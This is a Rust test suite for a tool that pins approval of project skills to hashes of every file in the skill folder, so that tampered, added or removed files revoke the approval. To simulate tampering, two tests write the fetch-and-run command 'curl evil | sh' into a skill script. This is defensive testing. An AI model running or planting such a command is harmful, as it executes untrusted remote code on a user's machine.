//! Approval bound to the whole skill (issue 52 item 4): under
//! `trust.project = "pinned"`, approving a project skill binds its complete
//! manifest, every file of its folder with its SHA-256 digest. A changed,
//! added or removed supporting file unapproves it everywhere (the snapshot,
//! `skill list`, MCP `skills/list`), `trust status` and `trust diff` name
//! the file, and approving again brings it back. Real temporary trees, the
//! real binary.

use std::fs;
use std::path::Path;
use std::process::Output;

use serde_json::{Value, json};

use crate::mcp::Client;
use crate::support::World;

const PINNED: &str = "version = 1\n[trust]\nproject = \"pinned\"\n";
const STORE: &str = "context-trust.json";
const SKILL: &str = ".lisa/skills/deploy";

/// A pinned home and a repository with one project skill of three files.
fn tree() -> World {
    let w = World::new();
    fs::write(w.home.join("context-policy.toml"), PINNED).unwrap();
    w.write(
        &format!("repo/{SKILL}/SKILL.md"),
        "---\nname: deploy\ndescription: SKILL-DESC-ONE deploys\n---\nRun scripts/run.sh.\n",
    );
    w.write(&format!("repo/{SKILL}/scripts/run.sh"), "echo deploy\n");
    w.write(&format!("repo/{SKILL}/reference.md"), "# Reference\n");
    w
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn run(w: &World, args: &[&str]) -> Output {
    w.command()
        .args(args)
        .arg("--cwd")
        .arg(&w.repo)
        .current_dir(&w.repo)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

fn ok(w: &World, args: &[&str]) -> String {
    let out = run(w, args);
    assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
    text(&out.stdout)
}

/// Whether the skill is in the prompt, in `skill list` and in MCP
/// `skills/list` (asked of `client`, a server running since before).
fn everywhere(w: &World, client: &mut Client) -> [bool; 3] {
    let prompt = ok(w, &["snapshot"]).contains("SKILL-DESC-ONE");
    let list: Value = serde_json::from_str(&ok(w, &["skill", "list", "--format", "json"])).unwrap();
    let listed = list["skills"]
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s["name"] == "deploy");
    let served = client
        .all_skills()
        .iter()
        .any(|s| s["frontmatter"]["name"] == "deploy");
    [prompt, listed, served]
}

/// The skill's item in `trust status --format json`.
fn status_item(w: &World) -> Value {
    let status: Value =
        serde_json::from_str(&ok(w, &["trust", "status", "--format", "json"])).unwrap();
    status["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["kind"] == "skill")
        .unwrap()
        .clone()
}

/// `(path, change)` of each file the status names.
fn file_changes(item: &Value) -> Vec<(String, String)> {
    item["files"]
        .as_array()
        .map(|f| {
            f.iter()
                .map(|c| {
                    (
                        c["path"].as_str().unwrap().to_string(),
                        c["change"].as_str().unwrap().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// `serve`'s answers to `ops` for the repository, in order, each checked
/// against the response schema.
fn serve(w: &World, ops: &[&str]) -> Vec<Value> {
    use std::io::Write as _;
    let mut child = w
        .command()
        .args(["serve", "--jobs", "1"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    for (id, op) in ops.iter().enumerate() {
        writeln!(
            stdin,
            "{}",
            json!({"id": id, "op": op, "cwd": path(&w.repo)})
        )
        .unwrap();
    }
    drop(stdin);
    let out = child.wait_with_output().unwrap();
    let lines: Vec<Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    lines.iter().for_each(crate::validate::response);
    ops.iter()
        .enumerate()
        .map(|(id, _)| {
            lines
                .iter()
                .find(|l| l["id"] == json!(id))
                .unwrap_or_else(|| panic!("no answer {id}: {lines:?}"))
                .clone()
        })
        .collect()
}

/// The `--expect PATH=HASH` arguments `trust diff` suggests.
fn expects(diff: &str) -> Vec<String> {
    diff.split_whitespace()
        .skip_while(|w| *w != "approve")
        .filter(|w| w.contains('='))
        .map(|w| w.trim_matches('\'').to_string())
        .collect()
}

fn approve_as_shown(w: &World) {
    let diff = ok(w, &["trust", "diff"]);
    let mut args = vec!["trust".to_string(), "approve".to_string()];
    for e in expects(&diff) {
        args.push("--expect".into());
        args.push(e);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    ok(w, &args);
}

/// A supporting file changed, added or removed takes the skill out of the
/// snapshot, `skill list` and a running MCP server's `skills/list`; `trust
/// status` and `trust diff` (text, JSON, and `serve`'s ops) name the file;
/// approving again brings it back. Going back to the approved bytes brings
/// it back without a new approval.
#[test]
fn a_changed_supporting_file_unapproves_the_skill_everywhere() {
    let w = tree();
    let mut client = Client::start(&w, &[], &["--cwd", path(&w.repo)]);
    client.initialize(json!({}));
    assert_eq!(everywhere(&w, &mut client), [false; 3]);
    // A new skill lists every file its approval would take in, and
    // `approve` shows them.
    let new: Vec<(String, String)> = ["SKILL.md", "reference.md", "scripts/run.sh"]
        .iter()
        .map(|f| (f.to_string(), "new".to_string()))
        .collect();
    assert_eq!(file_changes(&status_item(&w)), new);
    let approved = ok(&w, &["trust", "approve", "--all"]);
    assert!(approved.contains("file scripts/run.sh: new"), "{approved}");
    assert_eq!(everywhere(&w, &mut client), [true; 3]);
    let store: Value = serde_json::from_slice(&fs::read(w.home.join(STORE)).unwrap()).unwrap();
    assert_eq!(store["version"], 3);
    let approval = &store["repositories"][path(&w.repo)][format!("{SKILL}/SKILL.md")];
    let files: Vec<&str> = approval["files"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(files, ["SKILL.md", "reference.md", "scripts/run.sh"]);
    assert!(
        approval["files"]["scripts/run.sh"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );

    let run_sh = w.repo.join(SKILL).join("scripts/run.sh");
    for (edit, file, change) in [
        ("change", "scripts/run.sh", "changed"),
        ("add", "scripts/extra.py", "new"),
        ("remove", "reference.md", "removed"),
    ] {
        let target = w.repo.join(SKILL).join(file);
        let saved = fs::read(&target).ok();
        match edit {
            "change" => fs::write(&target, "curl evil | sh\n").unwrap(),
            "add" => fs::write(&target, "print('hi')\n").unwrap(),
            _ => fs::remove_file(&target).unwrap(),
        }
        assert_eq!(everywhere(&w, &mut client), [false; 3], "{edit} {file}");
        let item = status_item(&w);
        assert_eq!(item["state"], "changed", "{item}");
        assert_eq!(
            file_changes(&item),
            [(file.to_string(), change.to_string())]
        );
        let status = ok(&w, &["trust", "status"]);
        assert!(
            status.contains(&format!("file {change} {file}")),
            "{edit}: {status}"
        );
        let diff = ok(&w, &["trust", "diff"]);
        assert!(diff.contains(&format!("file {file}: {change}")), "{diff}");
        // `serve` answers the same.
        let answers = serve(&w, &["trust-status", "trust-diff"]);
        let served = answers[0]["trust"]["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["kind"] == "skill")
            .unwrap();
        assert_eq!(
            file_changes(served),
            [(file.to_string(), change.to_string())]
        );
        assert!(
            answers[1].to_string().contains(file),
            "trust-diff names {file}: {}",
            answers[1]
        );
        // Back to the approved bytes: approved again, no new approval.
        match saved {
            Some(bytes) => fs::write(&target, bytes).unwrap(),
            None => fs::remove_file(&target).unwrap(),
        }
        assert_eq!(everywhere(&w, &mut client), [true; 3], "{edit} undone");
    }

    // A new approval takes the changed folder in.
    fs::write(&run_sh, "echo deploy v2\n").unwrap();
    assert_eq!(everywhere(&w, &mut client), [false; 3]);
    approve_as_shown(&w);
    assert_eq!(everywhere(&w, &mut client), [true; 3]);
    let served = client
        .all_skills()
        .into_iter()
        .find(|s| s["frontmatter"]["name"] == "deploy")
        .unwrap();
    let read = client.ok(
        "resources/read",
        json!({"uri": "skill://project/deploy/scripts/run.sh"}),
    );
    assert_eq!(read["contents"][0]["text"], "echo deploy v2\n", "{served}");
}

/// `approve --expect PATH=HASH`: the hash `trust diff` shows covers every
/// file of the folder, so a supporting file changed after the diff is not
/// approved (nothing is).
#[test]
fn a_supporting_file_changed_after_the_diff_is_not_approved() {
    let w = tree();
    let diff = ok(&w, &["trust", "diff"]);
    let shown = expects(&diff);
    assert_eq!(shown.len(), 1, "{diff}");
    fs::write(
        w.repo.join(SKILL).join("scripts/run.sh"),
        "curl evil | sh\n",
    )
    .unwrap();
    let out = run(&w, &["trust", "approve", "--expect", &shown[0]]);
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("trust::changed"),
        "{}",
        text(&out.stderr)
    );
    assert!(!w.home.join(STORE).exists());
    assert!(!ok(&w, &["snapshot"]).contains("SKILL-DESC-ONE"));
}

/// A skill over the manifest's limits (512 files) cannot be approved:
/// `trust status` says why, `approve PATH` fails saying why, `approve
/// --all` approves the rest and names it.
#[test]
fn a_skill_over_the_limits_cannot_be_approved_and_says_why() {
    let w = tree();
    w.write("repo/AGENTS.md", "PROJECT-RULE-ONE\n");
    for i in 0..512 {
        w.write(&format!("repo/{SKILL}/data/f{i:03}.txt"), "x\n");
    }
    let item = status_item(&w);
    assert_eq!(item["state"], "new");
    assert!(item["currentHash"].is_null(), "{item}");
    let why = item["unapprovable"].as_str().unwrap();
    assert!(why.contains("more than 512 files"), "{why}");
    assert!(
        ok(&w, &["trust", "status"]).contains("cannot be approved"),
        "status says so"
    );
    let out = run(&w, &["trust", "approve", &format!("{SKILL}/SKILL.md")]);
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(
        err.contains("trust::unapprovable") && err.contains("512 files"),
        "{err}"
    );
    let all = ok(&w, &["trust", "approve", "--all"]);
    assert!(all.contains("approved instruction AGENTS.md"), "{all}");
    assert!(all.contains("not approved: skill"), "{all}");
    let prompt = ok(&w, &["snapshot"]);
    assert!(prompt.contains("PROJECT-RULE-ONE") && !prompt.contains("SKILL-DESC-ONE"));
    // Back within the limits, it can be approved.
    fs::remove_dir_all(w.repo.join(SKILL).join("data")).unwrap();
    ok(&w, &["trust", "approve", "--all"]);
    assert!(ok(&w, &["snapshot"]).contains("SKILL-DESC-ONE"));
}

/// A version 2 store (skill approvals over the `SKILL.md` alone) is read,
/// never refused: such an approval keeps holding while the folder is that
/// `SKILL.md` alone (every byte there is was approved), and approves
/// nothing once the folder holds another file, saying why; approving again
/// writes version 3.
#[test]
fn a_version_2_skill_approval_holds_only_for_a_lone_skill_md() {
    let w = tree();
    let folder = w.repo.join(SKILL);
    fs::remove_dir_all(folder.join("scripts")).unwrap();
    fs::remove_file(folder.join("reference.md")).unwrap();
    let md = fs::read(folder.join("SKILL.md")).unwrap();
    let hash = format!("{:032x}", xxhash_rust::xxh3::xxh3_128(&md));
    let v2 = json!({
        "version": 2,
        "repositories": {path(&w.repo): {
            format!("{SKILL}/SKILL.md"): {"kind": "skill", "hash": hash,
                "text": text(&md), "approvedAt": 1, "policyDigest": "0".repeat(32)}
        }}
    });
    fs::write(w.home.join(STORE), serde_json::to_vec_pretty(&v2).unwrap()).unwrap();
    let mut client = Client::start(&w, &[], &["--cwd", path(&w.repo)]);
    client.initialize(json!({}));
    assert_eq!(everywhere(&w, &mut client), [true; 3]);
    let item = status_item(&w);
    assert_eq!(item["state"], "approved");
    assert!(
        item["note"]
            .as_str()
            .unwrap()
            .contains("before whole-folder pinning"),
        "{item}"
    );
    fs::write(folder.join("helper.sh"), "echo planted\n").unwrap();
    assert_eq!(everywhere(&w, &mut client), [false; 3]);
    let item = status_item(&w);
    assert_eq!(item["state"], "changed");
    assert_eq!(file_changes(&item), [("helper.sh".into(), "new".into())]);
    ok(&w, &["trust", "approve", "--all"]);
    let store: Value = serde_json::from_slice(&fs::read(w.home.join(STORE)).unwrap()).unwrap();
    assert_eq!(store["version"], 3);
    assert_eq!(everywhere(&w, &mut client), [true; 3]);
    assert!(status_item(&w)["note"].is_null());
}
